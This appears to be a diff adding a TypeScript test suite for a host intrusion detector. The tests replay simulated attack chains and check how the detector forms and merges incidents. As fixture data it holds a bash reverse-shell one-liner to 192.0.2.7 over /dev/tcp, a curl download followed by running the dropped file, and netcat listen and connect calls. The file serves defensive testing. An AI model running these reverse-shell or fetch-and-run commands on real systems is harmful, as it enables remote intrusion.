@@ -1,0 +1,343 @@
+import assert from 'node:assert/strict'
+import { existsSync, readFileSync, writeFileSync } from 'node:fs'
+import { suite, test } from 'node:test'
+import { deserialize, serialize } from 'node:v8'
+import fc from 'fast-check'
+import { imageUid, type Incident } from '@honeyguide/model'
+import { createDetector, type Detector } from './detector.ts'
+import { sentenceText, type Finding } from './findings/finding.ts'
+import { activityOf } from './fixture/activity-of.ts'
+import {
+  playChain,
+  playOrdinary,
+  playWhole,
+  type Chain,
+  type ChainOptions,
+} from './fixture/chains.ts'
+import { ownRules } from '../../../rules/own-rules.ts'
+import {
+  simulatedHost,
+  type SimulatedEvent,
+  type SimulatedHost,
+  type SimulatedProcess,
+} from './fixture/simulated-host.ts'
+import { createLineage } from './lineage/graph.ts'
+import type { Lineage } from './lineage/lineage.ts'
+
+const rules = ownRules()
+
+interface Outcome {
+  readonly incidents: Map<string, Incident>
+  readonly merged: Map<string, string>
+  readonly findings: Map<string, Finding>
+}
+
+/** What a hub does: batches in, upserts kept. */
+function stage(lineage: Lineage = createLineage(), detector: Detector = createDetector({ rules })) {
+  const outcome: Outcome = { incidents: new Map(), merged: new Map(), findings: new Map() }
+  return {
+    lineage,
+    detector,
+    outcome,
+    feed(host: SimulatedHost, events: readonly SimulatedEvent[]) {
+      if (events.length === 0) return
+      const batch = host.batch(events)
+      lineage.apply(batch)
+      const changes = detector.apply(activityOf(batch, lineage, host.hostname), lineage)
+      for (const finding of changes.findings) outcome.findings.set(finding.uid, finding)
+      for (const { incident, mergedInto } of changes.incidents) {
+        if (mergedInto === null) outcome.incidents.set(incident.uid, incident)
+        else {
+          outcome.incidents.delete(incident.uid)
+          outcome.merged.set(incident.uid, mergedInto)
+        }
+      }
+    },
+  }
+}
+
+function run(host: SimulatedHost): Outcome {
+  const { feed, outcome } = stage()
+  feed(host, host.events)
+  return outcome
+}
+
+/** Events cut into batches of the given sizes, in turn. */
+function cut(events: readonly SimulatedEvent[], sizes: readonly number[]): SimulatedEvent[][] {
+  const out: SimulatedEvent[][] = []
+  for (let at = 0, turn = 0; at < events.length; turn++) {
+    const size = sizes[turn % sizes.length] ?? 1
+    out.push(events.slice(at, at + size))
+    at += size
+  }
+  return out
+}
+
+/** Event uids that an incident holds on its timeline. */
+const heldEvents = (incident: Incident) => new Set(incident.ticks.map((tick) => tick.eventUid))
+
+/** Uids of exec events of a chain's processes. */
+function execEvents(host: SimulatedHost, chain: Chain): string[] {
+  const pids = new Set(chain.processes.map((process) => process.pid))
+  return host.events
+    .filter(({ table, values }) => table === 'exec' && pids.has(Number(values['pid'])))
+    .map(({ values }) => `${host.name}-l${(values['seq'] as bigint).toString(36)}`)
+}
+
+const latestImage = (host: SimulatedHost, process: SimulatedProcess) =>
+  imageUid(host.name, process.pid, process.startNs, process.execNo)
+
+suite('detector', () => {
+  test('makes one incident of one chain, with all its steps', () => {
+    for (const options of [
+      {},
+      { tool: 'wget' },
+      { tool: 'client', server: '/opt/shop/front' },
+      { separateShells: true },
+      { payload: '/dev/shm/u', beatMs: 700, beats: 5 },
+    ] satisfies ChainOptions[]) {
+      const host = simulatedHost(1, 'web-03')
+      const chain = playWhole(host, options)
+      const { incidents } = run(host)
+      assert.equal(incidents.size, 1, JSON.stringify(options))
+      const [incident] = incidents.values()
+      assert.ok(incident)
+      assert.deepEqual(
+        incident.steps.map((step) => step.name),
+        ['Shell', 'Tool transfer', 'Dropped file run', 'Discovery', 'Call back'],
+      )
+      const held = heldEvents(incident)
+      for (const uid of execEvents(host, chain)) assert.ok(held.has(uid), `${uid} is missing`)
+      const sum = incident.reasons.reduce((total, reason) => total + reason.share, 0)
+      assert.ok(Math.abs(sum - 1) < 1e-9)
+      assert.ok(incident.reasons.length <= 5)
+      assert.equal(new Set(incident.nodes.map((node) => node.id)).size, incident.nodes.length)
+      for (const edge of incident.edges)
+        for (const end of [edge.from, edge.to])
+          assert.ok(incident.nodes.some((node) => node.id === end))
+    }
+  })
+
+  test('says in the title who did what to what, with real names', () => {
+    const host = simulatedHost(1, 'web-03')
+    playWhole(host)
+    const [incident] = run(host).incidents.values()
+    assert.equal(
+      sentenceText(incident?.title ?? []),
+      'nginx on web-03 started a shell that downloaded /tmp/.cache/worker from 127.0.0.1:8080, ' +
+        'ran it, looked around and called back to 127.0.0.1:4444 every 2.0 s',
+    )
+  })
+
+  test('gives the incident of the fixture chain, field by field', () => {
+    const host = simulatedHost(1, 'web-03')
+    playWhole(host)
+    const [incident] = run(host).incidents.values()
+    const file = new URL('./fixture/chain.incident.json', import.meta.url)
+    if (!existsSync(file) || process.env['UPDATE_GOLDEN'] === '1')
+      writeFileSync(file, `${JSON.stringify(incident, null, 2)}\n`)
+    assert.deepEqual(JSON.parse(JSON.stringify(incident)), JSON.parse(readFileSync(file, 'utf8')))
+  })
+
+  test('makes no incident of ordinary life', () => {
+    const host = simulatedHost(1)
+    playOrdinary(host)
+    const { incidents, findings } = run(host)
+    assert.deepEqual(
+      [...incidents.values()].map((one) => sentenceText(one.title)),
+      [],
+    )
+    assert.ok(findings.size > 0, 'weak findings are kept')
+    for (const finding of findings.values()) assert.equal(finding.incidentUid, '')
+  })
+
+  test('keeps two chains that run at the same time apart', () => {
+    const chance = fc.infiniteStream(fc.boolean())
+    const tool = fc.constantFrom('curl' as const, 'wget' as const, 'client' as const)
+    fc.assert(
+      fc.property(chance, tool, tool, fc.boolean(), (turns, oneTool, twoTool, fromOneShell) => {
+        const host = simulatedHost(1)
+        const init = host.snapshot('/sbin/init', ['init'], { pid: 1, startNs: 5n })
+        const shell = host.spawn(init, '/bin/bash', ['bash', 'both.sh'], { tty: 'pts/1' })
+        // Each is started by a launcher of its own, from one shell, or by the same init.
+        const parentOf = (n: number) =>
+          fromOneShell ? host.spawn(shell, '/usr/bin/node', ['node', 'launch', String(n)]) : init
+        const plays = [
+          playChain(host, {
+            tool: oneTool,
+            payload: '/tmp/a/one',
+            port: 8080,
+            callbackPort: 4001,
+            parent: parentOf(1),
+          }),
+          playChain(host, {
+            tool: twoTool,
+            payload: '/tmp/b/two',
+            port: 8081,
+            callbackPort: 4002,
+            parent: parentOf(2),
+          }),
+        ]
+        const chains: (Chain | undefined)[] = [undefined, undefined]
+        while (chains.includes(undefined)) {
+          const which = turns.next().value ? 0 : 1
+          const turn = chains[which] ? 1 - which : which
+          const step = plays[turn]?.next()
+          if (step?.done) chains[turn] = step.value
+        }
+        const { incidents } = run(host)
+        assert.equal(incidents.size, 2)
+        const events = chains.map((chain) => execEvents(host, chain ?? { processes: [] }))
+        const own = [...incidents.values()].map((incident) => {
+          const held = heldEvents(incident)
+          return events.map((uids) => uids.filter((uid) => held.has(uid)).length)
+        })
+        own.sort((a, b) => (b[0] ?? 0) - (a[0] ?? 0))
+        assert.deepEqual(own, [
+          [events[0]?.length, 0],
+          [0, events[1]?.length],
+        ])
+      }),
+      { numRuns: 100 },
+    )
+  })
+
+  test('gives the same findings and incidents whatever the batches, and after a restart between them', () => {
+    fc.assert(
+      fc.property(
+        fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1, maxLength: 8 }),
+        fc.nat(1000),
+        fc.boolean(),
+        (sizes, restartAt, ordinary) => {
+          const host = simulatedHost(1)
+          playWhole(host)
+          if (ordinary) playOrdinary(host)
+          const whole = run(host)
+          let parts = stage()
+          const batches = cut(host.events, sizes)
+          batches.forEach((events, index) => {
+            if (index === restartAt % batches.length) {
+              const lineage = createLineage()
+              lineage.restore(deserialize(serialize(parts.lineage.snapshot())))
+              const detector = createDetector({ rules })
+              detector.restore(deserialize(serialize(parts.detector.snapshot())))
+              const next = stage(lineage, detector)
+              for (const [uid, one] of parts.outcome.incidents) next.outcome.incidents.set(uid, one)
+              for (const [uid, one] of parts.outcome.findings) next.outcome.findings.set(uid, one)
+              parts = next
+            }
+            parts.feed(host, events)
+          })
+          assert.deepEqual(parts.outcome.findings, whole.findings)
+          assert.deepEqual(parts.outcome.incidents, whole.incidents)
+        },
+      ),
+      { numRuns: 60 },
+    )
+  })
+
+  test('hosts do not touch each other, however their batches are interleaved', () => {
+    fc.assert(
+      fc.property(fc.infiniteStream(fc.integer({ min: 1, max: 20 })), (random) => {
+        const hosts = [simulatedHost(1, 'a'), simulatedHost(2, 'b')]
+        for (const host of hosts) playWhole(host)
+        const both = stage()
+        const left = hosts.map((host) => [...host.events])
+        while (left.some((events) => events.length > 0)) {
+          const size = random.next().value ?? 1
+          const which = size % 2
+          const host = hosts[which]
+          if (host) both.feed(host, left[which]?.splice(0, size) ?? [])
+        }
+        const alone = new Map(hosts.flatMap((host) => [...run(host).incidents]))
+        assert.deepEqual(new Map([...both.outcome.incidents].sort()), new Map([...alone].sort()))
+      }),
+      { numRuns: 30 },
+    )
+  })
+
+  test('goes on with what the processes of an open incident do', () => {
+    const host = simulatedHost(1)
+    const chain = playWhole(host)
+    const shell = chain.processes[0]
+    assert.ok(shell)
+    const parts = stage()
+    parts.feed(host, host.events)
+    const before = [...parts.outcome.incidents.values()][0]
+    const late = host.events.length
+    const later = host.spawn(shell, '/usr/bin/less', ['less', '/srv/data'])
+    parts.feed(host, host.events.slice(late))
+    const after = [...parts.outcome.incidents.values()][0]
+    assert.equal(after?.uid, before?.uid)
+    assert.ok(after?.nodes.some((node) => node.processUid === latestImage(host, later)))
+    assert.deepEqual(after?.alive && { ...after.alive, count: 1 }, {
+      name: 'less',
+      pid: later.pid,
+      count: 1,
+    })
+  })
+
+  test('merges two incidents whose processes talk to each other; the earlier name stays', () => {
+    const host = simulatedHost(1)
+    const one = playWhole(host, { payload: '/tmp/a/one', port: 8080 })
+    const two = playWhole(host, { payload: '/tmp/b/two', port: 8081, callbackPort: 5555 })
+    const parts = stage()
+    parts.feed(host, host.events)
+    assert.equal(parts.outcome.incidents.size, 2)
+    const [first, second] = [...parts.outcome.incidents.values()].sort((a, b) =>
+      a.firstTime < b.firstTime ? -1 : 1,
+    )
+    const late = host.events.length
+    const waiting = host.spawn(one.processes[0] as SimulatedProcess, '/bin/nc', [
+      'nc',
+      '-l',
+      '9999',
+    ])
+    const calling = host.spawn(two.processes[0] as SimulatedProcess, '/bin/nc', [
+      'nc',
+      '127.0.0.1',
+      '9999',
+    ])
+    host.connect(calling, '127.0.0.1', 9999, waiting)
+    parts.feed(host, host.events.slice(late))
+    assert.deepEqual([...parts.outcome.incidents.keys()], [first?.uid])
+    assert.deepEqual([...parts.outcome.merged], [[second?.uid, first?.uid]])
+    for (const finding of parts.outcome.findings.values())
+      assert.equal(finding.incidentUid, first?.uid)
+  })
+
+  test('opens at once for a critical rule', () => {
+    const host = simulatedHost(1)
+    const init = host.snapshot('/sbin/init', ['init'], { pid: 1, startNs: 5n })
+    const app = host.spawn(init, '/usr/bin/java', ['java'])
+    host.spawn(app, '/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.7/443 0>&1'])
+    const [incident] = run(host).incidents.values()
+    assert.equal(incident?.severity, 'critical')
+  })
+
+  test('does not open for what is spread over more than the window', () => {
+    const host = simulatedHost(1)
+    const init = host.snapshot('/sbin/init', ['init'], { pid: 1, startNs: 5n })
+    const shell = host.spawn(init, '/bin/bash', ['bash'])
+    host.spawn(shell, '/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://192.0.2.1/x'])
+    host.wait(700_000)
+    host.spawn(shell, '/tmp/x', ['/tmp/x'])
+    for (const name of ['id', 'uname', 'ps', 'ss']) {
+      host.wait(20_000)
+      host.spawn(shell, `/usr/bin/${name}`, [name])
+    }
+    assert.equal(run(host).incidents.size, 0)
+  })
+
+  test('keeps within its limits and counts what it does not keep', () => {
+    const host = simulatedHost(1)
+    const chain = playWhole(host)
+    const shell = chain.processes[0] as SimulatedProcess
+    for (let i = 0; i < 200; i++) host.exit(host.spawn(shell, `/usr/bin/tool${i}`, [`tool${i}`]))
+    const parts = stage(createLineage(), createDetector({ rules, limits: { processes: 50 } }))
+    parts.feed(host, host.events)
+    const [incident] = parts.outcome.incidents.values()
+    assert.ok((incident?.nodes.length ?? 0) <= 60)
+    assert.ok(parts.detector.counts().droppedEvents > 100)
+  })
+})
